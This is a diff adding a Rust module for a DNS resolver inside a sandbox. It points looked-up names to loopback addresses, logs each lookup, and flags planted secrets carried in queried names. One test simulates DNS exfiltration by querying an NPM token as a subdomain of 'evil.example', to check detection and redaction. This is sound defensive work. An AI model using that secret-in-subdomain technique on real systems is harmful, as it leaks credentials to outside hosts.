@@ -1,0 +1,229 @@
+//! The resolver of a sandbox: each name leads to a door.
+//!
+//! Packets are hostile. What cannot be read is dropped, what is odd is refused,
+//! and nothing a packet says can take more than a packet's memory.
+
+use super::names::{Found, Names};
+use super::record::Recorder;
+use super::scan::Scanner;
+use super::{callers::Asked, callers::Callers};
+use crate::evidence::Lookup;
+use hickory_proto::op::{Edns, Message, MessageType, OpCode, ResponseCode};
+use hickory_proto::rr::rdata::A;
+use hickory_proto::rr::{DNSClass, RData, Record, RecordType};
+use std::net::SocketAddr;
+use std::sync::Arc;
+use std::time::Duration;
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::{TcpListener, TcpStream, UdpSocket};
+use tokio::sync::Semaphore;
+
+/// Seconds for which an answer may be kept: none, so that every process that
+/// asks is seen.
+const TTL: u32 = 0;
+/// Connections that are served at once.
+const MAX_STREAMS: usize = 64;
+/// Silence after which one is closed.
+const IDLE: Duration = Duration::from_secs(10);
+
+/// Answers look-ups and records them.
+pub(super) struct Resolver {
+    pub(super) names: Arc<Names>,
+    pub(super) scanner: Arc<Scanner>,
+    pub(super) recorder: Arc<Recorder>,
+    pub(super) callers: Arc<dyn Callers>,
+}
+
+impl Resolver {
+    /// Serves UDP for ever.
+    pub(super) async fn serve_udp(self: Arc<Self>, socket: UdpSocket) {
+        let mut packet = [0; 4096];
+        loop {
+            match socket.recv_from(&mut packet).await {
+                Ok((length, peer)) => {
+                    if let Some(answer) = self.answer(&packet[..length], peer) {
+                        let _ = socket.send_to(&answer, peer).await;
+                    }
+                }
+                // An ICMP error of an earlier answer shows up here.
+                Err(_) => tokio::time::sleep(Duration::from_millis(5)).await,
+            }
+        }
+    }
+
+    /// Serves TCP for ever.
+    pub(super) async fn serve_tcp(self: Arc<Self>, listener: TcpListener) {
+        let room = Arc::new(Semaphore::new(MAX_STREAMS));
+        loop {
+            let Ok(permit) = room.clone().acquire_owned().await else { return };
+            match listener.accept().await {
+                Ok((stream, peer)) => {
+                    let resolver = self.clone();
+                    tokio::spawn(async move {
+                        let _ = resolver.serve_stream(stream, peer).await;
+                        drop(permit);
+                    });
+                }
+                Err(_) => tokio::time::sleep(Duration::from_millis(5)).await,
+            }
+        }
+    }
+
+    async fn serve_stream(&self, mut stream: TcpStream, peer: SocketAddr) -> std::io::Result<()> {
+        loop {
+            let length = tokio::time::timeout(IDLE, stream.read_u16()).await??;
+            let mut packet = vec![0; usize::from(length)];
+            tokio::time::timeout(IDLE, stream.read_exact(&mut packet)).await??;
+            let Some(answer) = self.answer(&packet, peer) else { return Ok(()) };
+            let length = u16::try_from(answer.len()).map_err(std::io::Error::other)?;
+            stream.write_u16(length).await?;
+            stream.write_all(&answer).await?;
+        }
+    }
+
+    /// The answer to a packet; `None` drops it.
+    fn answer(&self, packet: &[u8], peer: SocketAddr) -> Option<Vec<u8>> {
+        let asked = Message::from_vec(packet).ok()?;
+        if asked.metadata.message_type != MessageType::Query {
+            return None;
+        }
+        let mut answer = Message::response(asked.metadata.id, asked.metadata.op_code);
+        answer.metadata.recursion_desired = asked.metadata.recursion_desired;
+        answer.metadata.recursion_available = true;
+        if asked.edns.is_some() {
+            let mut edns = Edns::new();
+            edns.set_max_payload(1232);
+            answer.set_edns(edns);
+        }
+        let query = match asked.queries.as_slice() {
+            [query] if asked.metadata.op_code == OpCode::Query && query.query_class() == DNSClass::IN => {
+                query
+            }
+            _ => {
+                answer.metadata.response_code = ResponseCode::Refused;
+                return answer.to_vec().ok();
+            }
+        };
+        answer.add_query(query.clone());
+        let name = query.name().to_string().trim_end_matches('.').to_ascii_lowercase();
+        let (code, address, said) = resolve(&self.names, &name, query.query_type());
+        answer.metadata.response_code = code;
+        if let Some(address) = address {
+            answer.add_answer(Record::from_rdata(query.name().clone(), TTL, RData::A(A(address))));
+        }
+        let carried = self.scanner.in_name(&name);
+        self.recorder.lookup(
+            Lookup {
+                seq: 0,
+                name: self.scanner.redact_name(&name),
+                answer: said,
+                process: None,
+                carried_secret: carried,
+            },
+            || Asked::about(self.callers.clone(), peer),
+        );
+        answer.to_vec().ok()
+    }
+}
+
+fn resolve(
+    names: &Names,
+    name: &str,
+    kind: RecordType,
+) -> (ResponseCode, Option<std::net::Ipv4Addr>, String) {
+    // The reverse tree, and names no resolver would look for, lead nowhere and take no door.
+    if name.is_empty() || name.ends_with(".arpa") || name == "arpa" {
+        return (ResponseCode::NXDomain, None, "NXDOMAIN".into());
+    }
+    match (names.find(name), kind) {
+        (Found::NxDomain, _) => (ResponseCode::NXDomain, None, "NXDOMAIN".into()),
+        (Found::Door(address) | Found::Nobody(address), RecordType::A | RecordType::ANY) => {
+            (ResponseCode::NoError, Some(address), address.to_string())
+        }
+        (Found::Door(_) | Found::Nobody(_), _) => (ResponseCode::NoError, None, "none".into()),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::worlds::world;
+    use super::*;
+    use crate::scenario::Answer;
+    use hickory_proto::op::Query;
+    use hickory_proto::rr::Name;
+
+    struct Nobody;
+
+    impl Callers for Nobody {
+        fn caller<'a>(
+            &'a self,
+            _: SocketAddr,
+        ) -> std::pin::Pin<Box<dyn Future<Output = Option<super::super::Caller>> + Send + 'a>> {
+            Box::pin(std::future::ready(None))
+        }
+    }
+
+    fn resolver(world: &crate::plan::World) -> Resolver {
+        Resolver {
+            names: Arc::new(Names::new(world, [])),
+            scanner: Arc::new(Scanner::new(&world.planted)),
+            recorder: Arc::default(),
+            callers: Arc::new(Nobody),
+        }
+    }
+
+    fn ask(name: &str, kind: RecordType) -> Vec<u8> {
+        let mut message = Message::query();
+        message.add_query(Query::query(Name::from_ascii(name).unwrap(), kind));
+        message.to_vec().unwrap()
+    }
+
+    fn peer() -> SocketAddr {
+        "127.0.0.1:9".parse().unwrap()
+    }
+
+    #[tokio::test]
+    async fn names_lead_to_doors_and_have_no_other_records() {
+        let mut world = world();
+        world.registries[0].answer = Answer::NxDomain;
+        let resolver = resolver(&world);
+        let get = |name: &str, kind| {
+            Message::from_vec(&resolver.answer(&ask(name, kind), peer()).unwrap()).unwrap()
+        };
+        let found = get("Registry.Example.", RecordType::A);
+        let RData::A(A(address)) = found.answers[0].data else { panic!("no address") };
+        assert!(address.is_loopback());
+        assert_eq!(get("registry.example.", RecordType::AAAA).answers.len(), 0);
+        assert_eq!(get("registry.example.", RecordType::AAAA).metadata.response_code, ResponseCode::NoError);
+        assert_eq!(get("npm.corp.example.", RecordType::A).metadata.response_code, ResponseCode::NXDomain);
+        let seen = resolver.recorder.clone().finish().await.lookups;
+        let said: Vec<_> = seen.iter().map(|seen| (seen.name.as_str(), seen.answer.clone())).collect();
+        assert_eq!(said[0], ("registry.example", address.to_string()));
+        assert_eq!(said[1], ("registry.example", "none".to_owned()));
+        assert_eq!(said[3], ("npm.corp.example", "NXDOMAIN".to_owned()));
+        assert_eq!(seen.iter().map(|seen| seen.seq).collect::<Vec<_>>(), [1, 2, 3, 4]);
+    }
+
+    #[tokio::test]
+    async fn a_secret_in_a_name_is_seen_and_not_recorded() {
+        let world = world();
+        let resolver = resolver(&world);
+        let value = &world.planted[0].value;
+        resolver.answer(&ask(&format!("{value}.evil.example."), RecordType::A), peer()).unwrap();
+        let seen = resolver.recorder.clone().finish().await.lookups;
+        assert_eq!(seen[0].carried_secret.as_deref(), Some("NPM_TOKEN"));
+        assert!(!seen[0].name.contains(value.as_str()), "{}", seen[0].name);
+    }
+
+    #[tokio::test]
+    async fn garbage_is_dropped() {
+        let resolver = resolver(&world());
+        for packet in [&b""[..], b"GET / HTTP/1.1\r\n\r\n", &[0xff; 600], &[0; 12]] {
+            let _ = resolver.answer(packet, peer());
+        }
+        let mut response = Message::response(1, OpCode::Query);
+        response.add_query(Query::query(Name::from_ascii("a.").unwrap(), RecordType::A));
+        assert!(resolver.answer(&response.to_vec().unwrap(), peer()).is_none());
+        assert!(resolver.recorder.clone().finish().await.lookups.is_empty());
+    }
+}
